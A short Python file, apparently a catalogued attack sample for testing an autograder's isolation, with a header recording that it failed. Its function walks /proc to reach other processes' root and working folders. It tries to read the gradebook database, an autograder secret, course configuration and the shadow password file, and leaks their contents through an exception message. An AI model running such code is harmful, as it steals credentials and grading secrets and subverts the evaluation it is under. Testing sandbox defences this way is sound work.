# attack: the folders of the others
# idea: Goes through /proc to the root, the folder and the open files of every other process.
# place: any
# outcome: failed

import glob
import os

import autograder


def FUNCTION(*args, **kwargs):
    house = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
    for process in glob.glob("/proc/[0-9]*"):
        for door in ("root" + house, "root/etc", "cwd", "cwd/../.."):
            for name in ("course.yml", "gradebook.db", ".autograder/secret", "shadow"):
                try:
                    with open(f"{process}/{door}/{name}", "rb") as file:
                        raise RuntimeError(f"{process}/{door}/{name}: {file.read(100)}")
                except OSError:
                    pass
    return WRONG
